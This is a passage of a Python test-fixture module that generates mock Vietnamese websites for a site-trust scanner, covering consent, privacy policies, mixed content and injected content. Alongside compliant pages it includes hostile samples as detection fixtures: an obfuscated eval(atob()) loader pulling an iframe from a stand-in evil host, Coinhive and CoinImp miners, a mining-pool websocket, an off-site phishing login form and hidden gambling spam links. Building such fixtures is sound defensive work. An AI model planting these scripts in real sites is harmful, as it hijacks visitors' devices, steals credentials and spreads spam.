"""Page content of the test world for criteria b, c (data in transit) and đ: the privacy footer and the content sites.

Every site's home page carries the same footer linking a Vietnamese personal-data policy that
commits to consent, so the certificate and security.txt sites keep differing from ``good`` in one
respect only. The ``content-*`` sites and ``links-listed`` each differ from that clean baseline in
the one content problem they exist to show.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Callable

POLICY_PATH = "/chinh-sach-bao-mat.html"
# Listed by the world's snapshot (tests/world/blocklist.py LISTED_LINK_HOSTS: `*.nha-cai.trustscan.test`);
# bad.example.test is the name agreed in issue 3, linked too in case a snapshot lists it.
LISTED_URL = "https://www.nha-cai.trustscan.test/"
AGREED_LISTED_URL = "https://bad.example.test/"
NEWS_PAGES = 35  # more than the default --max-pages (30): the clean site exercises the page limit

PRIVACY_FOOTER = (
    f'<footer><p>© Cổng thông tin điện tử</p><a href="{POLICY_PATH}">Chính sách bảo mật</a></footer>'
)
POLICY_HTML = (
    "<h1>Chính sách bảo vệ dữ liệu cá nhân</h1>"
    "<p>Chúng tôi chỉ thu thập, lưu trữ và xử lý dữ liệu cá nhân của người sử dụng khi có sự đồng ý "
    "của chủ thể dữ liệu, trừ trường hợp pháp luật quy định khác, theo Nghị định 13/2023/NĐ-CP "
    "về bảo vệ dữ liệu cá nhân.</p><p>Người sử dụng có quyền rút lại sự đồng ý bất cứ lúc nào.</p>"
)
POLICY_WITHOUT_CONSENT_HTML = (  # a policy by its content, but it never mentions consent
    "<h1>Chính sách bảo mật</h1><p>Chúng tôi thu thập dữ liệu cá nhân (họ tên, thư điện tử) để cải thiện "
    "dịch vụ và liên hệ với bạn khi cần thiết, lưu trữ chúng trong hai năm và không chuyển giao cho bên "
    "thứ ba.</p>"
)
CONSENT_FORM = (
    '<form action="/lien-he" method="post"><label>Họ và tên <input name="ho_ten"></label>'
    '<label>Email <input type="email" name="email"></label><label>Số điện thoại <input type="tel" name="sdt">'
    '</label><label><input type="checkbox" name="dong_y" required> Tôi đồng ý với '
    f'<a href="{POLICY_PATH}">chính sách bảo vệ dữ liệu cá nhân</a></label><button>Gửi</button></form>'
)
NO_CONSENT_FORM = (
    '<form id="dang-ky" action="/dang-ky" method="post"><input name="ho_ten" placeholder="Họ và tên">'
    '<input type="email" name="email"><input name="cccd" placeholder="Số CCCD">'
    '<input name="dia_chi" placeholder="Địa chỉ"><button>Đăng ký</button></form>'
)
HIDDEN_CASINO_FOOTER = (
    '<div style="position:absolute;left:-9999px;top:-9999px">'
    '<a href="https://nhacai-uytin.example/">nhà cái uy tín</a> '
    '<a href="https://casino-online.example/ca-cuoc">Cá cược bóng đá</a> '
    '<a href="https://taixiu.example/">tài xỉu online</a></div>'
    '<p hidden><a href="https://nohu.example/">Nổ hũ đổi thưởng</a></p>'
)
MALWARE_HOME_EXTRA = (
    '<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJzxpZnJhbWUgc3JjPWh0dHBzOi8vZXZpbC5leGFtcGxlLyc+Jyk="))</script>'
    '<script src="https://coinhive.com/lib/coinhive.min.js"></script>'
    '<script>var miner = new CoinHive.Anonymous("site-key"); miner.start();</script>'
    '<form action="https://phish.example.test/dang-nhap" method="post"><input name="tai_khoan">'
    '<input type="password" name="mat_khau"><button>Đăng nhập</button></form>'
    '<a href="/tin-moi.html">Tin mới</a>'
)
META_REFRESH_PAGE = (
    '<html><head><meta http-equiv="refresh" content="0; url=https://lua-dao.example/"></head>'
    "<body>Đang chuyển trang…</body></html>"
)
TRACKER_HEAD = (
    '<script async src="https://www.googletagmanager.com/gtag/js?id=G-TEST"></script>'
    "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}"
    "gtag('js', new Date());gtag('config','G-TEST');</script>"
)


# Criterion b (issue 11): each b-* site differs from the clean baseline in how it treats consent; the traps
# (b-terms, b-pdf) are compliant in a way a link-text scanner would miss, and must pass.
HOME_NAV = '<nav><a href="/">Trang chủ</a> <a href="/tin-tuc/1.html">Tin tức</a></nav>'
# No policy anywhere: links *named* like one lead to the home page and the contact page, and "Chính sách"
# in the navigation leads to tax news. None of them is about protecting personal data.
NOPOLICY_NAV = ('<nav><a href="/">Trang chủ</a> <a href="/chinh-sach-thue.html">Chính sách</a> '
                '<a href="/lien-he.html">Liên hệ</a></nav>')
NOPOLICY_FOOTER = ('<footer><a href="/">Chính sách bảo mật</a> <a href="/lien-he.html">Quyền riêng tư</a>'
                   "</footer>")
TAX_NEWS_HTML = (
    "<h1>Chính sách thuế mới có hiệu lực từ tháng 7</h1><p>Cục Thuế thông báo chính sách miễn, giảm thuế thu "
    "nhập cá nhân đối với hộ kinh doanh. Người nộp thuế cần lưu trữ chứng từ và nộp hồ sơ đúng hạn; mục đích "
    "của chính sách là hỗ trợ doanh nghiệp nhỏ.</p>"
)
CONTACT_HTML = (
    "<h1>Liên hệ</h1><p>Văn phòng: 12 Nguyễn Du, Hà Nội. Điện thoại: 024 3822 0000. "
    "Thư điện tử: vanphong@example.vn. Giờ làm việc: 8:00–17:00 các ngày trong tuần.</p>"
)
# The policy as a section of the terms of use, linked only as "Điều khoản sử dụng" from the footer.
TERMS_PATH = "/dieu-khoan-su-dung.html"
TERMS_FOOTER = f'<footer><p>© Cổng thông tin điện tử</p><a href="{TERMS_PATH}">Điều khoản sử dụng</a></footer>'
TERMS_HTML = (
    "<h1>Điều khoản sử dụng</h1><h2>1. Phạm vi</h2><p>Điều khoản này áp dụng cho mọi người truy cập cổng "
    "thông tin.</p><h2>2. Bảo vệ dữ liệu cá nhân</h2><p>Chúng tôi chỉ thu thập và lưu trữ dữ liệu cá nhân "
    "(họ tên, thư điện tử, số điện thoại) khi có sự đồng ý của chủ thể dữ liệu, cho mục đích xử lý yêu cầu "
    "của bạn, không chuyển giao cho bên thứ ba, theo Nghị định 13/2023/NĐ-CP. Bạn có thể rút lại sự đồng ý "
    "bất cứ lúc nào.</p><h2>3. Bản quyền</h2><p>Nội dung thuộc bản quyền của cơ quan chủ quản.</p>"
)
# Analytics held back by a consent manager until the visitor agrees: not tracking before consent.
HELD_BACK_ANALYTICS = (
    '<script id="Cookiebot" src="https://consent.cookiebot.com/uc.js" data-cbid="0000"></script>'
    '<script type="text/plain" data-category="analytics" '
    'src="https://www.googletagmanager.com/gtag/js?id=G-HELD"></script>'
    '<script type="text/plain" data-category="analytics">window.dataLayer=window.dataLayer||[];'
    "function gtag(){dataLayer.push(arguments);}gtag('js', new Date());gtag('config','G-HELD');</script>"
    '<script type="text/plain" class="optanon-category-C0004">!function(f,b,e,v,n,t,s){}(window,document,'
    "'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1234');</script>"
)
TERMS_FORM = (
    '<form action="/lien-he" method="post"><label>Họ và tên <input name="ho_ten" required></label>'
    '<label>Email <input type="email" name="email" required></label><label><input type="checkbox" '
    f'name="dong_y" required> Tôi đồng ý với <a href="{TERMS_PATH}">điều khoản sử dụng</a></label>'
    "<button>Gửi</button></form>"
)
# The policy as a PDF reached from a hub of policies: footer "Chính sách" -> the hub -> the PDF.
PDF_HUB_PATH = "/chinh-sach.html"
PDF_POLICY_PATH = "/tai-lieu/chinh-sach-du-lieu-ca-nhan.pdf"
PDF_FOOTER = f'<footer><p>© Cổng thông tin điện tử</p><a href="{PDF_HUB_PATH}">Chính sách</a></footer>'
PDF_HUB_HTML = (
    "<h1>Các chính sách</h1><ul><li><a href=\"/chinh-sach-thue.html\">Chính sách thuế</a></li>"
    f'<li><a href="{PDF_POLICY_PATH}">Chính sách bảo vệ dữ liệu cá nhân (PDF)</a></li></ul>'
)
PDF_POLICY_LINES = [  # WinAnsi text (Helvetica has no Vietnamese tone marks): written without them
    "CHINH SACH BAO VE DU LIEU CA NHAN",
    "Chung toi chi thu thap, luu tru va xu ly du lieu ca nhan cua nguoi su dung",
    "khi co su dong y cua chu the du lieu, theo Nghi dinh 13/2023/ND-CP.",
    "Muc dich xu ly: giai quyet yeu cau cua ban. Thoi gian luu tru: 2 nam.",
    "Khong chuyen giao du lieu cho ben thu ba. Ban co quyen rut lai su dong y.",
]
# Consent that is not consent: a pre-ticked box, text that infers consent from sending, a hidden field.
PRETICKED_FORM = (
    '<form id="dang-ky" action="/dang-ky" method="post"><input name="ho_ten" placeholder="Họ và tên">'
    '<input type="email" name="email"><label><input type="checkbox" name="dong_y" checked required> Tôi đồng ý '
    f'với <a href="{POLICY_PATH}">chính sách bảo vệ dữ liệu cá nhân</a></label><button>Đăng ký</button></form>'
)
IMPLIED_FORM = (
    '<form id="tu-van" action="/tu-van" method="post"><input name="so_dien_thoai" placeholder="Số điện thoại">'
    '<input name="ngay_sinh" placeholder="Ngày sinh"><p>Bằng việc gửi thông tin, bạn đồng ý với '
    f'<a href="{POLICY_PATH}">chính sách bảo mật</a> của chúng tôi.</p><button>Gửi</button></form>'
)
HIDDEN_CONSENT_FORM = (
    '<form id="ho-so" action="/ho-so" method="post"><input name="cccd" placeholder="Số CCCD">'
    '<input name="ma_so_thue" placeholder="Mã số thuế"><input type="hidden" name="consent" value="1">'
    f'<a href="{POLICY_PATH}">Chính sách bảo mật</a><button>Nộp hồ sơ</button></form>'
)
# Trackers started on a first view, on two pages: the evidence names each tracker and its page.
TRACKERS_HOME_HEAD = (
    "<script>!function(f,b,e,v,n,t,s){if(f.fbq)return;}(window,document,'script',"
    "'https://connect.facebook.net/en_US/fbevents.js');fbq('init', '1234567890');fbq('track','PageView');</script>"
    '<script async src="https://www.clarity.ms/tag/abcdef"></script>'
)
TRACKERS_NEWS_HEAD = (
    '<script src="https://mc.yandex.ru/metrika/tag.js"></script>'
    "<script>!function(w,d,t){w.TiktokAnalyticsObject=t;var ttq=w[t]=w[t]||[];ttq.load('C123');ttq.page();}"
    "(window,document,'ttq');</script>"
)
# A tracker's cookie set by the site itself on every first view (Meta Pixel's _fbp), before any consent;
# Secure and SameSite, so criterion a's cookie rules have nothing to say about it.
CONTENT_COOKIES = {"b-trackers": "_fbp=fb.1.1700000000000.1234567890; Path=/; Max-Age=7776000; Secure; SameSite=Lax"}
# Criterion c (issue 11 item 5): user data in transit on HTTPS pages.
HTTP_FORM = (
    '<form id="gop-y" action="http://{host}/gop-y" method="post"><label>Họ và tên <input name="ho_ten"></label>'
    '<label><input type="checkbox" name="dong_y" required> Tôi đồng ý với '
    f'<a href="{POLICY_PATH}">chính sách bảo vệ dữ liệu cá nhân</a></label><button>Gửi</button></form>'
)
# The variant: a form whose own action is fine but whose submit button's formaction posts over http://.
HTTP_FORMACTION = ('<form id="tim-kiem" action="/tim-kiem"><input type="search" name="q">'
                   '<button formaction="http://{host}/tim-kiem">Tìm</button></form>')
ACTIVE_MIXED = (
    '<link rel="stylesheet" href="http://cdn.trustscan.test/site.css">'
    '<script src="http://cdn.trustscan.test/app.js"></script>'
)
ACTIVE_MIXED_BODY = '<iframe src="http://maps.trustscan.test/embed"></iframe>'
PASSIVE_MIXED_BODY = ('<img src="http://cdn.trustscan.test/logo.png" alt="logo">'
                      '<video src="http://cdn.trustscan.test/gioi-thieu.mp4"></video>'
                      '<link rel="canonical" href="http://example.vn/">')
UPGRADE_META = '<meta http-equiv="Content-Security-Policy" content="upgrade-insecure-requests">'


def simple_pdf(lines: list[str], title: str) -> bytes:
    """A one-page PDF 1.4 writing `lines` (WinAnsi) in Helvetica, with an Info title; xref offsets exact."""
    def escape(text: str) -> str:
        return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    content = "BT /F1 11 Tf 14 TL 50 780 Td " + " ".join(f"({escape(line)}) Tj T*" for line in lines) + " ET"
    stream = content.encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Title (" + escape(title).encode("latin-1") + b") >>",
    ]
    return pdf_file(objects, trailer="/Info 6 0 R")


def pdf_file(objects: list[bytes], *, trailer: str = "") -> bytes:
    """PDF 1.4 bytes of `objects` (numbered from 1, the first the catalog), with exact xref offsets."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    extra = f" {trailer}" if trailer else ""
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R{extra} >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def page(title: str, body: str, *, head: str = "", charset: str = "utf-8", footer: bool = True) -> str:
    return (f'<!doctype html>\n<html lang="vi"><head><meta charset="{charset}"><title>{title}</title>{head}'
            f"</head><body>{body}{PRIVACY_FOOTER if footer else ''}</body></html>\n")


def encode_windows_1258(text: str) -> bytes:
    """Encode as windows-1258, which writes most tone marks as separate combining characters."""
    out = []
    for char in unicodedata.normalize("NFC", text):
        try:
            out.append(char.encode("cp1258"))
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", char)
        tones = "".join(c for c in parts if c in "\u0300\u0301\u0303\u0309\u0323")
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
        out.append((base + tones).encode("cp1258", errors="replace"))
    return b"".join(out)


def _clean(host: str) -> dict[str, bytes]:
    news = "".join(f'<li><a href="/tin-tuc/{i}.html">Tin tức số {i}</a></li>' for i in range(1, NEWS_PAGES + 1))
    files = {"/index.html": page(host, f"<h1>{host}</h1><ul>{news}</ul>{CONSENT_FORM}"),
             POLICY_PATH: page("Chính sách bảo mật", POLICY_HTML)}
    for i in range(1, NEWS_PAGES + 1):
        nav = f'<a href="/">Trang chủ</a> <a href="/tin-tuc/{i % NEWS_PAGES + 1}.html">Tin tiếp theo</a>'
        files[f"/tin-tuc/{i}.html"] = page(f"Tin tức số {i}", f"<p>Nội dung tin {i}.</p>{nav}")
    return {path: text.encode() for path, text in files.items()}


def _spam(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1><p>Trang bị chèn liên kết ẩn.</p>{HIDDEN_CASINO_FOOTER}")
            .encode()}


def _listed(host: str) -> dict[str, bytes]:
    body = (f'<h1>{host}</h1><p>Xem thêm tại <a href="{LISTED_URL}">trang đối tác</a> và '
            f'<a href="{AGREED_LISTED_URL}">trang liên kết</a>.</p>')
    return {"/index.html": page(host, body).encode()}


def _malware(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{MALWARE_HOME_EXTRA}").encode(),
            "/tin-moi.html": META_REFRESH_PAGE.encode()}


def _noconsent(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{NO_CONSENT_FORM}", head=TRACKER_HEAD).encode(),
            POLICY_PATH: page("Chính sách bảo mật", POLICY_WITHOUT_CONSENT_HTML).encode()}


def _windows_1258(host: str) -> dict[str, bytes]:
    # nginx labels every page "charset=utf-8": the page contradicts its header, as often seen in the
    # wild. The policy is linked by its Vietnamese text only (the URL says nothing), so finding it
    # proves the text was decoded. The markup is malformed on purpose (unclosed and stray tags), except
    # the <title>: one left open swallows the whole page in a browser (RCDATA, HTML §13.2.5.2), and so
    # in the crawl's parser, which would then rightly find no policy link at all.
    home = (f'<!doctype html><html lang="vi"><head><meta charset="windows-1258"><title>Sở Giáo dục {host}'
            "</title></head><body><h1>Trang thông tin điện tử<p><b><i>Thông báo tuyển sinh</b></i>"
            "<table><tr><td>Ngày 1/9<td>Khai giảng</table></div></span>"
            '<a href="/cs.html">Chính sách bảo vệ dữ liệu cá nhân</a><a href="/lich.html">Lịch học'
            "<form action=/dang-ky method=post><input name=ho_ten><input type=checkbox name=x required> "
            "Tôi đồng ý cho phép xử lý dữ liệu cá nhân theo <a href=/cs.html>chính sách</a></form>"
            "<!-- unclosed comment")
    policy = (f'<html><head><meta charset="windows-1258"><title>Chính sách</title></head><body>{POLICY_HTML}'
              "</body></html>")
    calendar = '<html><head><meta charset="windows-1258"></head><body><p>Lịch học kỳ I <a href="/">Về trang chủ'
    return {"/index.html": encode_windows_1258(home), "/cs.html": encode_windows_1258(policy),
            "/lich.html": encode_windows_1258(calendar)}


# Injected spam placed after markup nested deeper than the parser's 2048 levels: a browser shows it
# (Blink flattens past 512 levels), libxml2 stops there. The page must not pass: criterion đ says error.
DEEP_NESTING = "<font>" * 2100


def _deep(host: str) -> dict[str, bytes]:
    body = f"<h1>{host}</h1>{PRIVACY_FOOTER}{DEEP_NESTING}{HIDDEN_CASINO_FOOTER}"
    return {"/index.html": page(host, body, footer=False).encode()}
def _nopolicy(host: str) -> dict[str, bytes]:
    def bare(title: str, body: str) -> bytes:
        return page(title, NOPOLICY_NAV + body + NOPOLICY_FOOTER, footer=False).encode()

    return {"/index.html": bare(host, f"<h1>{host}</h1><p>Cổng thông tin điện tử.</p>"),
            "/chinh-sach-thue.html": bare("Chính sách", TAX_NEWS_HTML),
            "/lien-he.html": bare("Liên hệ", CONTACT_HTML)}


def _terms(host: str) -> dict[str, bytes]:
    body = f"{HOME_NAV}<h1>{host}</h1>{TERMS_FORM}{TERMS_FOOTER}"
    return {"/index.html": page(host, body, head=HELD_BACK_ANALYTICS, footer=False).encode(),
            TERMS_PATH: page("Điều khoản sử dụng", TERMS_HTML + TERMS_FOOTER, footer=False).encode(),
            "/tin-tuc/1.html": page("Tin tức", f"{HOME_NAV}<p>Tin tức.</p>{TERMS_FOOTER}", footer=False).encode()}


def _pdf(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"{HOME_NAV}<h1>{host}</h1>{PDF_FOOTER}", footer=False).encode(),
            PDF_HUB_PATH: page("Chính sách", PDF_HUB_HTML + PDF_FOOTER, footer=False).encode(),
            "/chinh-sach-thue.html": page("Chính sách thuế", TAX_NEWS_HTML + PDF_FOOTER, footer=False).encode(),
            PDF_POLICY_PATH: simple_pdf(PDF_POLICY_LINES, "Chinh sach bao ve du lieu ca nhan")}


def _preticked(host: str) -> dict[str, bytes]:
    links = '<a href="/tu-van.html">Tư vấn</a> <a href="/ho-so.html">Hồ sơ</a>'
    return {"/index.html": page(host, f"<h1>{host}</h1>{links}{PRETICKED_FORM}").encode(),
            "/tu-van.html": page("Tư vấn", IMPLIED_FORM).encode(),
            "/ho-so.html": page("Hồ sơ", HIDDEN_CONSENT_FORM).encode()}


def _trackers(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f'<h1>{host}</h1><a href="/tin-tuc/1.html">Tin</a>',
                                head=TRACKERS_HOME_HEAD).encode(),
            "/tin-tuc/1.html": page("Tin tức", "<p>Tin tức.</p>", head=TRACKERS_NEWS_HEAD).encode()}


def _http_form(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{HTTP_FORM.format(host=host)}"
                                      f"{HTTP_FORMACTION.format(host=host)}").encode()}


def _mixed(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{ACTIVE_MIXED_BODY}{PASSIVE_MIXED_BODY}",
                                head=ACTIVE_MIXED).encode()}


def _passive(host: str) -> dict[str, bytes]:
    # Passive mixed content on the home page (a warning); active content on a page that upgrades it.
    return {"/index.html": page(host, f'<h1>{host}</h1>{PASSIVE_MIXED_BODY}<a href="/ban-do.html">Bản đồ</a>')
            .encode(),
            "/ban-do.html": page("Bản đồ", ACTIVE_MIXED_BODY, head=UPGRADE_META + ACTIVE_MIXED).encode()}


# Issue 10 item 4: links hidden by CSS rules rather than inline styles.
SEO_LINKS = ('<a href="https://nhacai-uytin.example/">nhà cái uy tín</a> '
             '<a href="https://casino-online.example/ca-cuoc">Cá cược bóng đá</a>')
SITE_STYLESHEET = ("body{font-family:Arial;background:#ffffff;color:#222}\n"
                   ".seo-links{position:absolute;left:-9999px;top:-9999px}\n.tin-tuc h2{font-size:18px}\n")
TRAP_STYLESHEET = (
    # The usual legitimate hiding: a screen-reader-only skip link, a dropdown shown on hover, white text on a
    # dark banner. None of it carries gambling links, so none of it may be reported.
    ".sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}\n"
    ".submenu{display:none}\n.menu li:hover .submenu{display:block}\n"
    ".banner{background-color:#003366}\n.banner a{color:#ffffff}\n"
)
TRAP_CSS_BODY = (
    '<a class="sr-only" href="#noi-dung">Chuyển đến nội dung chính</a>'
    '<ul class="menu"><li>Dịch vụ<ul class="submenu"><li><a href="/thu-tuc.html">Thủ tục hành chính</a></li>'
    '<li><a href="https://dichvucong.example/">Cổng Dịch vụ công quốc gia</a></li></ul></li></ul>'
    '<div class="banner"><a href="https://baochinhphu.example/">Báo điện tử Chính phủ</a></div>'
    '<p id="noi-dung">Tin tức và thông báo.</p>'
)


def _css_sheet(host: str) -> dict[str, bytes]:
    head = '<link rel="stylesheet" href="/css/giao-dien.css">'
    body = f'<h1>{host}</h1><p>Trang bị chèn liên kết ẩn bằng lớp CSS.</p><div class="seo-links">{SEO_LINKS}</div>'
    return {"/index.html": page(host, body, head=head).encode(), "/css/giao-dien.css": SITE_STYLESHEET.encode()}


def _css_block(host: str) -> dict[str, bytes]:
    # The variant: a <style> block, a descendant selector, and text coloured like the page's background.
    head = "<style>body{background:#fff} #chan-trang .lien-ket a{color:#FFFFFF;text-decoration:none}</style>"
    body = (f'<h1>{host}</h1><div id="chan-trang"><p class="lien-ket">{SEO_LINKS}</p></div>')
    return {"/index.html": page(host, body, head=head).encode()}


def _css_trap(host: str) -> dict[str, bytes]:
    head = '<link rel="stylesheet" href="/css/giao-dien.css">'
    return {"/index.html": page(host, f"<h1>{host}</h1>{TRAP_CSS_BODY}", head=head).encode(),
            "/css/giao-dien.css": TRAP_STYLESHEET.encode()}


# Issue 10 item 9: miners after Coinhive, in a same-site script file and inline.
COINIMP_KEY = "5c3f" * 16
MINER_FILE = (f"(function(){{var _client = new Client.Anonymous('{COINIMP_KEY}', {{throttle: 0.3, c: 'w'}});"
              "_client.start();})();\n")
MINER_INLINE = (
    "<script>var w = new Worker('/js/worker.js'); var hasher = new CryptonightWASMWrapper();"
    'var pool = new WebSocket("wss://ws.supportxmr.example:443/"); pool.onmessage = function(m){w.postMessage(m.data)};'
    "</script>"
)
TRAP_SCRIPT = ("WebAssembly.instantiateStreaming(fetch('/js/pdf.worker.wasm')).then(function(r){window.pdf=r;});\n"
               'var chat = new WebSocket("wss://" + location.host + "/hoi-dap");\n')


def _miner_file(host: str) -> dict[str, bytes]:
    head = '<script src="/js/thong-ke.js"></script>'
    return {"/index.html": page(host, f"<h1>{host}</h1><p>Thống kê truy cập.</p>", head=head).encode(),
            "/js/thong-ke.js": MINER_FILE.encode()}


def _miner_inline(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{MINER_INLINE}").encode()}


def _miner_trap(host: str) -> dict[str, bytes]:
    head = '<script src="/js/app.js"></script>'
    body = (f"<h1>{host}</h1><h2>Giá Monero và Bitcoin hôm nay</h2><p>Đồng Monero (XMR) dùng thuật toán "
            "CryptoNight; cơ quan chức năng cảnh báo mã đào tiền ảo chèn vào trang web.</p>")
    return {"/index.html": page(host, body, head=head).encode(), "/js/app.js": TRAP_SCRIPT.encode()}


# Issue 10 item 3: spam written by inline scripts, not present in the markup itself.
SCRIPT_WRITE = (
    "<script>document.write(\"<div style=\\\"position:absolute;left:-9999px\\\">\" + "
    "\"<a href=\\\"https://nhacai-uytin.example/\\\">nh\\u00e0 c\\u00e1i uy t\\u00edn</a> \" + "
    "\"<a href='https://taixiu.example/'>t\\xe0i x\\u1ec9u online</a></div>\");</script>"
)
SCRIPT_JQUERY = (
    '<style>.an{display:none}</style><div id="chan-trang"></div>'
    "<script>$(function(){$('#chan-trang').append('\\x3cdiv class=\"an\"\\x3e' + "
    "decodeURIComponent('%3Ca%20href%3D%22https%3A//casino-online.example/ca-cuoc%22%3Ec%C3%A1%20c%C6%B0%E1%BB%A3c'"
    " + '%3C/a%3E') + '\\x3c/div\\x3e');});</script>"
)
SCRIPT_TRAP = (
    '<div id="tin-nhanh"></div><span style="display:none" id="dem"></span>'
    "<script>document.write('<a href=\"/lich-cong-tac.html\">L\\u1ecbch c\\u00f4ng t\\u00e1c</a>');"
    "document.getElementById('tin-nhanh').innerHTML = '<a href=\"https://baochinhphu.example/\">Tin Ch\\u00ednh "
    "ph\\u1ee7</a>'; document.getElementById('dem').innerHTML = 'L\\u01b0\\u1ee3t truy c\\u1eadp: ' + count;"
    "</script>"
)


def _script_write(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1><p>Tin tức.</p>{SCRIPT_WRITE}").encode()}


def _script_jquery(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1><p>Tin tức.</p>{SCRIPT_JQUERY}").encode()}


def _script_trap(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{SCRIPT_TRAP}").encode()}


# Issue 10 item 5: whole pages of gambling promotion, and the legitimate pages that speak of gambling.
DOORWAY_PATH = "/uploads/2024/07/tai-lieu.html"
DOORWAY_ID = (
    "<h1>Slot Gacor Hari Ini Gampang Maxwin</h1><p>Situs judi online terpercaya: daftar slot gacor, RTP live "
    "tertinggi, deposit pulsa tanpa potongan. Bandar togel resmi, link alternatif anti rungkad.</p><ul>"
    '<li><a href="https://slot-gacor.example/daftar">Daftar slot gacor</a></li>'
    '<li><a href="https://togel-resmi.example/">Bandar togel</a></li>'
    '<li><a href="https://judi-bola.example/">Judi bola online</a></li></ul>'
)
SPAM_VI_NO_DIACRITICS = (
    "<h2>Nha cai uy tin nhat 2024</h2><p>Soi keo, ty le keo nha cai hom nay, tai xiu online, no hu doi thuong. "
    "Dang ky nhan thuong 100k.</p>"
    '<p><a href="https://fb88-vn.example/">Link vao FB88</a> <a href="https://nhacai-top.example/">Top nha cai</a></p>'
)
POLICE_NEWS = (
    "<h1>Công an triệt phá đường dây cá độ bóng đá qua mạng</h1><p>Công an tỉnh vừa triệt phá đường dây tổ chức "
    "đánh bạc, cá độ bóng đá qua mạng với số tiền hơn 100 tỷ đồng, bắt giữ 12 đối tượng. Cơ quan điều tra đã khởi tố "
    "vụ án, tạm giữ các đối tượng để điều tra về hành vi tổ chức đánh bạc và đánh bạc. Các đối tượng lập nhiều trang "
    "cá độ, nhà cái trái phép để thu hút người chơi.</p>"
    '<p>Nguồn: <a href="https://congan.example/phap-luat/triet-pha-duong-day-ca-do-bong-da">Báo Công an</a></p>'
)
LOTTERY_RESULTS = (
    "<h1>Kết quả xổ số kiến thiết miền Bắc</h1><p>Công ty xổ số kiến thiết thông báo kết quả mở thưởng. Vietlott "
    "Mega 6/45: giải Jackpot trị giá 20 tỷ đồng chưa có người trúng.</p>"
    '<p><a href="https://vietlott.example/vi/trung-thuong/ket-qua-trung-thuong/645">Kết quả Vietlott Mega 6/45 '
    "(jackpot)</a></p>"
)
SPORTS_NEWS = (
    "<h1>Đội tuyển Việt Nam thắng 2-0 ở vòng loại</h1><p>Huấn luyện viên hài lòng với hai bàn thắng; tỷ số 2-0 "
    "giúp đội tuyển dẫn đầu bảng. Lịch thi đấu lượt về được công bố tuần tới.</p>"
    '<p><a href="https://thethao.example/bong-da/ty-le-keo-va-nhan-dinh-luot-ve">Nhận định lượt về</a></p>'
)


def _gambling_doorway(host: str) -> dict[str, bytes]:
    home = page(host, f'<h1>{host}</h1><p><a href="{DOORWAY_PATH}">Tài liệu</a></p>')
    return {"/index.html": home.encode(), DOORWAY_PATH: page("Slot Gacor", DOORWAY_ID, footer=False).encode()}


def _gambling_vi(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{SPAM_VI_NO_DIACRITICS}").encode()}


def _gambling_news(host: str) -> dict[str, bytes]:
    home = page(host, f'<h1>{host}</h1><ul><li><a href="/an-ninh.html">An ninh trật tự</a></li>'
                      '<li><a href="/xo-so.html">Kết quả xổ số</a></li>'
                      '<li><a href="/the-thao.html">Thể thao</a></li></ul>')
    return {"/index.html": home.encode(), "/an-ninh.html": page("An ninh", POLICE_NEWS).encode(),
            "/xo-so.html": page("Xổ số", LOTTERY_RESULTS).encode(),
            "/the-thao.html": page("Thể thao", SPORTS_NEWS).encode()}


#: site name -> (what it shows, its pages); the home page replaces the default one.
CONTENT_SITES: dict[str, tuple[str, Callable[[str], dict[str, bytes]]]] = {
    "content-clean": (f"{NEWS_PAGES + 2} pages, Vietnamese privacy policy with consent, form with consent checkbox",
                      _clean),
    "content-spam": ("hidden casino/betting links injected in the footer", _spam),
    "links-listed": (f"visible link to the listed host {LISTED_URL}", _listed),
    "content-malware": ("eval(atob()) loader, Coinhive miner, password form posting off-site, meta refresh off-site",
                        _malware),
    "content-noconsent": ("personal-data form without consent, policy without consent, Google Analytics", _noconsent),
    "content-1258": ("windows-1258 pages labelled utf-8 by the server, malformed HTML", _windows_1258),
    "content-deep": ("hidden casino links after 2100 unclosed <font> tags, deeper than the parser reads", _deep),
    "content-css-sheet": ("casino links hidden by a class of the site's own stylesheet", _css_sheet),
    "content-css-block": ("casino links coloured like the background by a <style> descendant rule", _css_block),
    "content-css-trap": ("legitimate CSS hiding: screen-reader skip link, hover menu, white text on a dark banner",
                         _css_trap),
    "content-miner-file": ("CoinImp miner in a same-site script file", _miner_file),
